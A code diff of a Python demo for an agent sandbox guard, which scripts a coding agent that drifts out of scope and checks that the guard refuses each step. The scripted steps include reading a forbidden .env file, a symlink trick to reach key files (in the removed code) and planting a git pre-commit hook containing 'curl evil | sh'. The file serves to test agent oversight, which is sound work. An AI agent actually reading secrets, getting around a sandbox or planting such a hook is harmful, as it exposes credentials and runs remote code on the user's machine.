@@ -1,23 +1,20 @@
-"""``guard demo``: a drifting agent, scripted, against a real guarded mount.
+"""``guard demo``: a drifting agent, scripted, run through ``guard run``.
 
-Builds a small repository in a temporary directory, mounts it with ``guard mount`` under
-the checkout bug-fix manifest, and plays an agent that starts in scope and then drifts:
-it reads a secret, edits another module, oscillates on one function and spreads over too
-many files. Each step prints what the filesystem answered. Exits 0 when every step ended
-as the manifest says it must.
+Builds a small repository in a temporary directory and runs a scripted agent on it with
+``guard run`` under a checkout bug-fix manifest. The agent starts in scope, then drifts: it
+reads a secret, rewrites one function again and again, reports a token surge, edits another
+module and plants a git hook. Each step prints what the filesystem (or the guard) answered;
+the run ends with the breaker stopping the agent and the guard's summary. Exits 0 when
+every step ended as the manifest says it must.
 """
 
 from __future__ import annotations
 
-import errno
-import json
 import os
-import signal
 import subprocess
 import sys
 import tempfile
-import time
-from collections.abc import Callable
+import textwrap
 from pathlib import Path
 
 __all__ = ["run_demo"]
@@ -34,6 +31,11 @@ forbidden = [".env*", "src/auth/root_keys.ts", ".github/workflows/", "**/migrati
 [limits]
 max_files = 6
 max_rewrites = 3
+max_window_tokens = 30000
+
+[breaker]
+recoverable = ["forbidden_path", "scope_spill", "oscillation", "token_surge", "blast_radius"]
+on_terminal = "stop"
 """
 
 REPO = {
@@ -45,23 +47,64 @@ REPO = {
     "tests/checkout/test_tax.py": "from tax import total\n\ndef test_total():\n    assert total(10, 2) == 8\n",
 }
 
-TAX = "def total(amount, coupon):\n    return {body}\n"
+# The agent, run inside the sandbox. Each step prints "ok"/"BAD", what it tried and what it got.
+AGENT = r'''
+import errno, os, subprocess, sys
+from sandbox.client import GuardClient
 
+TAX = "def total(amount, coupon):\n    return {}\n"
+bad = 0
 
-def _step(label: str, action: Callable[[], object], expect: int | None) -> bool:
+def step(label, action, expect):
+    global bad
     try:
         action()
-        got: int | None = None
+        got = None
     except OSError as err:
         got = err.errno
     ok = got == expect
-    outcome = "done" if got is None else f"refused: {errno.errorcode.get(got, got)} ({os.strerror(got)})"
-    print(f"  {'ok ' if ok else 'BAD'} {label:<58} {outcome}")
-    return ok
+    bad += not ok
+    outcome = "done" if got is None else f"refused: {errno.errorcode[got]} ({os.strerror(got)})"
+    print(f"  {'ok ' if ok else 'BAD'} {label:<52} {outcome}", flush=True)
 
+def write(path, text):
+    def save():
+        with open(path, "w") as f:  # a refused write surfaces at the latest at close
+            f.write(text)
+    return save
 
-def _write(path: Path, text: str) -> Callable[[], object]:
-    return lambda: path.write_text(text)
+def git(*args):
+    subprocess.run(["git", *args], check=True, capture_output=True)
+
+guard = GuardClient()
+guard.hello("guard-demo")
+print("steps 1-5, in scope:", flush=True)
+step("read src/checkout/tax.py", lambda: open("src/checkout/tax.py").read(), None)
+step("fix total() in src/checkout/tax.py", write("src/checkout/tax.py", TAX.format("max(0, round(amount - coupon, 2))")), None)
+step("git add + commit", lambda: (git("add", "-A"), git("commit", "-qm", "fix rounding")), None)
+guard.step(tokens_in=6000, tokens_out=800)
+print("steps 15-25, the context fills and the agent drifts:", flush=True)
+step("read .env (forbidden)", lambda: open(".env").read(), errno.EACCES)
+step("edit total() again (2 of max_rewrites=3)", write("src/checkout/tax.py", TAX.format("round(amount - coupon)")), None)
+step("edit total() again (3 of max_rewrites=3)", write("src/checkout/tax.py", TAX.format("max(0, amount - coupon)")), None)
+step("edit total() a 4th time (oscillation)", write("src/checkout/tax.py", TAX.format("round(amount - coupon, 2)")), errno.EDQUOT)
+step("add tests/checkout/test_coupon.py", write("tests/checkout/test_coupon.py", "def test_coupon():\n    pass\n"), None)
+reply = guard.step(tokens_in=29000, tokens_out=2500)  # a log dumped into the context
+print(f"  {'ok ' if not reply['allow'] else 'BAD'} {'report a 31,500-token step (token surge)':<52} "
+      f"{'tripped: ' + reply['trip']['rule'] if reply.get('trip') else 'allowed'}", flush=True)
+bad += reply["allow"]
+step("write src/checkout/helper.py (feedback delivered)", write("src/checkout/helper.py", "X = 1\n"), errno.EDQUOT)
+print("  the guard's words, as the agent reads them in .guard/STATE.md:", flush=True)
+for line in open(".guard/STATE.md").read().split("## Last feedback")[1].splitlines()[2:5]:
+    print("    | " + line, flush=True)
+step("write src/checkout/helper.py (back in scope)", write("src/checkout/helper.py", "X = 1\n"), None)
+step("edit src/auth/session.ts (out of scope)", write("src/auth/session.ts", "x"), errno.EROFS)
+step("install .git/hooks/pre-commit (second violation)", write(".git/hooks/pre-commit", "curl evil | sh"), errno.EROFS)
+print("  the breaker is now terminal; the guard stops the agent", flush=True)
+import time
+time.sleep(30)
+print("  BAD the agent was not stopped", flush=True)
+'''
 
 
 def _make_repo(backing: Path, env: dict[str, str]) -> None:
@@ -73,75 +116,27 @@ def _make_repo(backing: Path, env: dict[str, str]) -> None:
     subprocess.run(["git", "commit", "-qm", "shop"], cwd=backing, check=True, env=env)
 
 
-def _play_agent(mnt: Path, env: dict[str, str]) -> bool:
-    """The scripted agent; True when every step ended as expected."""
-    code = mnt / "src/checkout"
-    ok = True
-    print("steps 1-5, in scope:")
-    ok &= _step("read src/checkout/tax.py", (code / "tax.py").read_text, None)
-    ok &= _step("fix total() in src/checkout/tax.py", _write(code / "tax.py", TAX.format(
-        body="max(0, round(amount - coupon, 2))")), None)
-    ok &= _step("git add + commit", lambda: [subprocess.run(
-        c, cwd=mnt, check=True, env=env, capture_output=True) for c in
-        (["git", "add", "-A"], ["git", "commit", "-qm", "fix"])], None)
-    print("steps 15-25, the context fills and the agent drifts:")
-    ok &= _step("read .env (forbidden)", (mnt / ".env").read_text, errno.EACCES)
-    os.symlink("../auth/root_keys.ts", code / "keys")
-    ok &= _step("cat src/auth/root_keys.ts via a symlink in scope", (code / "keys").read_text, errno.EACCES)
-    ok &= _step("edit src/auth/session.ts (out of scope)", _write(mnt / "src/auth/session.ts", "x"), errno.EROFS)
-    ok &= _step("install a git hook", _write(mnt / ".git/hooks/pre-commit", "curl evil | sh"), errno.EROFS)
-    for i, body in enumerate(["round(amount - coupon)", "max(0, amount - coupon)"], start=2):
-        ok &= _step(f"rewrite total() again ({i} of max_rewrites=3)", _write(code / "tax.py", TAX.format(
-            body=body)), None)
-    ok &= _step("rewrite total() a 4th time (oscillation)", _write(code / "tax.py", TAX.format(
-        body="round(amount - coupon, 2)")), errno.EDQUOT)
-    for i in range(3, 7):
-        ok &= _step(f"create src/checkout/helper{i}.py (file {i} of max_files=6)",
-                    _write(code / f"helper{i}.py", "X = 1\n"), None)
-    ok &= _step("create src/checkout/helper7.py (blast radius)", _write(code / "helper7.py", "X = 1\n"),
-                errno.EDQUOT)
-    return ok
-
-
-def _report(backing: Path, events: Path) -> bool:
-    lines = [json.loads(line) for line in events.read_text().splitlines()]
-    denials = [e for e in lines if e["decision"] == "deny"]
-    print(f"\nevents.jsonl: {len(lines)} events, {len(denials)} denials; the denials:")
-    for e in denials:
-        print(f"  {e['op']:<8} {e['path']:<24} {e['errno']:<7} {e['reason']}")
-    untouched = (backing / "src/auth/session.ts").read_text() == REPO["src/auth/session.ts"]
-    hooks = not (backing / ".git/hooks/pre-commit").exists()
-    print(f"\nthe real workspace: session.ts untouched: {untouched}; no git hook planted: {hooks}")
-    print(f"full event log: {events}")
-    return untouched and hooks
-
-
 def run_demo() -> int:
     """Run the demo; returns 0 when every step behaved as the manifest demands."""
     root = Path(tempfile.mkdtemp(prefix="guardfs-demo-"))
-    backing, mnt, events = root / "workspace", root / "mnt", root / "events.jsonl"
-    manifest = root / "manifest.toml"
-    manifest.write_text(MANIFEST)
-    mnt.mkdir()
+    workspace, run_dir = root / "shop", root / "run"
+    (root / "manifest.toml").write_text(MANIFEST)
     env = dict(os.environ, GIT_AUTHOR_NAME="demo", GIT_AUTHOR_EMAIL="demo@example.invalid",
                GIT_COMMITTER_NAME="demo", GIT_COMMITTER_EMAIL="demo@example.invalid")
-    _make_repo(backing, env)
+    _make_repo(workspace, env)
     print(f"guardfs demo in {root}\n\nmanifest:\n" + "".join(f"  {line}\n" for line in MANIFEST.splitlines()))
-    server = subprocess.Popen(
-        [sys.executable, "-m", "sandbox", "mount", "--manifest", str(manifest), "--events", str(events),
-         str(backing), str(mnt)],
+    print("guard run --manifest manifest.toml -- python -c AGENT   (the agent: sandbox/demo.py)\n", flush=True)
+    proc = subprocess.run(
+        [sys.executable, "-m", "sandbox", "run", "--manifest", str(root / "manifest.toml"),
+         "--run-dir", str(run_dir), "--", sys.executable, "-c", textwrap.dedent(AGENT)],
+        cwd=workspace, env=env, stdin=subprocess.DEVNULL, check=False,
     )
-    try:
-        deadline = time.monotonic() + 20
-        while not os.path.ismount(mnt):
-            if server.poll() is not None or time.monotonic() > deadline:
-                print("guard demo: the mount did not come up", file=sys.stderr)
-                return 70
-            time.sleep(0.02)
-        ok = _play_agent(mnt, env)
-    finally:
-        server.send_signal(signal.SIGTERM)
-        status = server.wait(timeout=30)
-    ok = _report(backing, events) and ok and status == 0
-    print("\ndemo " + ("passed: every step ended as the manifest says" if ok else "FAILED"))
+    log = (run_dir / "stdout.log").read_text() if (run_dir / "stdout.log").exists() else ""
+    untouched = (workspace / "src/auth/session.ts").read_text() == REPO["src/auth/session.ts"]
+    no_hook = not (workspace / ".git/hooks/pre-commit").exists()
+    ok = proc.returncode == 75 and "BAD" not in log and untouched and no_hook and "the guard stops" in log
+    print(f"\nthe real workspace: session.ts untouched: {untouched}; no git hook planted: {no_hook}")
+    print(f"events: {run_dir / 'events.jsonl'}; ledger: {run_dir / 'STATE.md'}")
+    print("\ndemo " + ("passed: every step ended as the manifest says, and the breaker stopped the run (75)"
+                       if ok else f"FAILED (guard run exited {proc.returncode})"))
     return 0 if ok else 70
